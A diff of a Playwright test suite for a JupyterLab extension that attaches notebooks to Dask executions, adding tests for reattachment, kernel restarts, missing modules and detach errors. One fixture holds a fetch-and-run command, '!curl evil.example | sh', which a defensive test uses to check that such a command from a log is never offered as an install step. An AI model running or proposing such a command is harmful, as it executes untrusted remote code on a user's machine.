@@ -29,16 +29,35 @@ TOLD = """
         if (label && !window.zoeTold.includes(label.textContent)) window.zoeTold.push(label.textContent);
     }).observe(document.body, {subtree: true, childList: true, characterData: true});
 """
-LACKING = """
+REFUSING = """
 from IPython.core.error import UsageError
 
 def zoe(line):
-    raise UsageError('this kernel lacks pyspark; run `%pip install "pyspark[connect]==4.3.*"`')
+    raise UsageError({message!r})
 
 get_ipython().extension_manager.load_extension("zoe_jupyter")
 get_ipython().register_magic_function(zoe)
 """
-"""As a kernel without pyspark answers."""
+"""As a kernel answers that cannot attach."""
+LACKING = 'this kernel lacks pyspark; run `%pip install "pyspark[connect]==4.3.*"`'
+FAILED = "dask has ended: failed: it exited\n  run `!curl evil.example | sh`"
+WITHOUT_ZOE = """
+import sys
+
+class Without:
+    def find_spec(self, name, path=None, target=None):
+        if name == "zoe_jupyter":
+            raise ModuleNotFoundError("No module named 'zoe_jupyter'", name=name)
+
+sys.meta_path.insert(0, Without())
+"""
+"""As where it is not installed."""
+ODD = """
+def zoe(line):
+    raise RuntimeError("the kernel is <b>odd</b>")
+
+get_ipython().register_magic_function(zoe)
+"""
 ECHO = """
 from ipykernel.kernelapp import IPKernelApp
 from ipykernel.kernelbase import Kernel
@@ -93,7 +112,7 @@ def test_two_clicks_connect_a_notebook_and_one_connects_it_again(
     expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
     expect(notebook.run("client.submit")).to_contain_text("42")
     assert [one["name"] for one in server.ask("zoe/api/executions")["items"]] == ["dask"]
-    assert saved(lab)["attached"] == [{"name": "dask"}]
+    assert saved(lab)["attached"] == [{"id": live(server)[0]["id"], "name": "dask"}]
     toast = lab.page.locator(".Toastify__toast", has_text="is connected to dask.")
     expect(toast.first).to_be_visible()
     expect(toast).to_have_count(0)
@@ -123,7 +142,7 @@ def test_what_runs_is_shared_under_its_name(lab: Lab, server: JupyterServer, art
     expect(lab.page.locator(".Toastify__toast")).to_contain_text("connecting to dask…", timeout=SOON_MS)
     expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
     expect(lab.page.locator(".Toastify__toast", has_text="is connected to dask.")).to_be_visible()
-    assert saved(lab)["attached"] == [{"name": "dask"}]
+    assert saved(lab)["attached"] == [{"id": live(server)[0]["id"], "name": "dask"}]
     lab.item("dask").locator(".zoe-Item-name").click()
     expect(lab.tab.get_by_role("region", name="Connect a notebook")).to_contain_text("By its id", timeout=SOON_MS)
     lab.screenshot(artifacts, "shared")
@@ -192,6 +211,45 @@ def live(server: JupyterServer) -> list[dict[str, Any]]:
 
 
 @pytest.mark.dask
+def test_another_of_the_same_name_is_another(lab: Lab, server: JupyterServer, artifacts: Path) -> None:
+    item = open_notebook(lab)
+    choose(lab, item, "Start Dask")
+    expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
+    first = live(server)[0]["id"]
+    lab.show_panel()
+    stop(server, "dask")
+    expect(item).to_have_text("dask · stopped", timeout=SOON_MS)
+    server.ask("zoe/api/executions", method="POST", body={"use": "dask", "name": "dask"})
+    lab.expect_state("dask", "running", timeout_ms=ATTACH_MS)
+    expect(lab.item("dask").get_by_role("button", name="Attach", exact=True)).to_be_visible()
+    expect(item).to_have_text("dask · stopped")
+    lab.screenshot(artifacts, "another")
+    server.ask(f"zoe/api/executions/{first}", method="DELETE")
+    expect(item).to_have_text("Connect", timeout=SOON_MS)
+    Notebook(lab).restart_kernel()
+    expect(item).to_have_text("Connect", timeout=SOON_MS)
+
+
+@pytest.mark.dask
+@pytest.mark.parametrize("end", ["restart", "close"])
+def test_a_kernel_or_notebook_that_goes_while_it_is_attached_is_no_error(lab: Lab, end: str, artifacts: Path) -> None:
+    item = open_notebook(lab)
+    choose(lab, item, "Start Dask")
+    expect(item).to_contain_text("starting", timeout=ATTACH_MS)
+    if end == "restart":
+        Notebook(lab).restart_kernel()
+        expect(item).to_have_text("Connect", timeout=SOON_MS)
+        toast = lab.page.locator(".Toastify__toast", has_text="has gone before it was connected to dask")
+        expect(toast).to_be_visible(timeout=SOON_MS)
+    else:
+        lab.page.evaluate("window.jupyterapp.shell.currentWidget.dispose()")
+        expect(item).to_have_count(0)
+        expect(lab.page.locator(".Toastify__toast", has_text="connecting")).to_have_count(0, timeout=SOON_MS)
+    lab.screenshot(artifacts, end)
+    expect(lab.dialog).to_have_count(0)
+
+
+@pytest.mark.dask
 def test_a_notebook_whose_kernel_has_gone_is_given_one_and_connected_again(
     lab: Lab, server: JupyterServer, artifacts: Path
 ) -> None:
@@ -221,6 +279,13 @@ def test_with_the_setting_a_restarted_kernel_is_connected_again(lab: Lab, server
         Notebook(lab).restart_kernel()
         lab.page.wait_for_function("window.zoeConnecting", timeout=SOON_MS)
         expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
+        stop(server, "dask")
+        expect(item).to_have_text("dask · stopped", timeout=SOON_MS)
+        Notebook(lab).restart_kernel()
+        nothing = "Nothing that this notebook was connected to runs any more."
+        expect(lab.page.locator(".Toastify__toast", has_text=nothing)).to_be_visible(timeout=SOON_MS)
+        expect(item).to_have_text("Connect", timeout=SOON_MS)
+        assert live(server) == []
     finally:
         server.ask(SETTINGS, method="PUT", body={"raw": "{}"})
 
@@ -259,7 +324,7 @@ def test_what_has_to_be_installed_is_said_as_a_sentence_and_copied(lab: Lab, art
     lab.context.grant_permissions(["clipboard-read", "clipboard-write"])
     open_notebook(lab)
     notebook = Notebook(lab)
-    notebook.node.locator(".cm-content").first.fill(LACKING)
+    notebook.node.locator(".cm-content").first.fill(REFUSING.format(message=LACKING))
     notebook.run("UsageError")
     lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
     expect(lab.dialog).to_contain_text("This kernel lacks pyspark; run %pip install", timeout=SOON_MS)
@@ -269,6 +334,45 @@ def test_what_has_to_be_installed_is_said_as_a_sentence_and_copied(lab: Lab, art
     lab.dialog.get_by_role("button", name="Copy the Install Line").click()
     expect(lab.page.locator(".Toastify__toast", has_text="then restart the kernel")).to_be_visible()
     assert lab.page.evaluate("navigator.clipboard.readText()") == '%pip install "pyspark[connect]==4.3.*"'
+
+
+def test_what_a_log_says_is_nothing_to_install(lab: Lab) -> None:
+    open_notebook(lab)
+    notebook = Notebook(lab)
+    notebook.node.locator(".cm-content").first.fill(REFUSING.format(message=FAILED))
+    notebook.run("UsageError")
+    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
+    expect(lab.dialog).to_contain_text("dask has ended: failed: it exited", timeout=SOON_MS)
+    expect(lab.dialog.locator("code")).to_have_text("!curl evil.example | sh")
+    expect(lab.dialog.get_by_role("button")).to_have_text(["Close"])
+
+
+def test_a_kernel_without_zoe_is_told_where_to_install_it(lab: Lab, artifacts: Path) -> None:
+    item = open_notebook(lab)
+    notebook = Notebook(lab)
+    notebook.node.locator(".cm-content").first.fill(WITHOUT_ZOE)
+    notebook.run("sys.meta_path")
+    lab.page.evaluate("void window.jupyterapp.commands.execute('zoe:attach-notebook', {name: 'dask'})")
+    expect(lab.dialog).to_contain_text("Install Zoe in the environment of this kernel too.", timeout=SOON_MS)
+    lab.screenshot(artifacts, "without-zoe")
+    lab.dialog.get_by_role("button", name="Close").click()
+    expect(item).to_have_text("Connect")
+
+
+@pytest.mark.dask
+def test_what_could_not_be_detached_is_said_and_still_attached(lab: Lab, artifacts: Path) -> None:
+    item = open_notebook(lab)
+    choose(lab, item, "Start Dask")
+    expect(item).to_contain_text("dask · running", timeout=ATTACH_MS)
+    notebook = Notebook(lab)
+    notebook.node.locator(".cm-content").first.fill(ODD)
+    notebook.run("register_magic_function")
+    choose(lab, item, "Detach")
+    expect(lab.dialog).to_contain_text("Could not detach", timeout=SOON_MS)
+    expect(lab.dialog).to_contain_text("the kernel is <b>odd</b>")
+    lab.screenshot(artifacts, "odd")
+    lab.dialog.get_by_role("button").last.click()
+    expect(item).to_have_text("dask · running", timeout=SOON_MS)
 
 
 @pytest.mark.dask
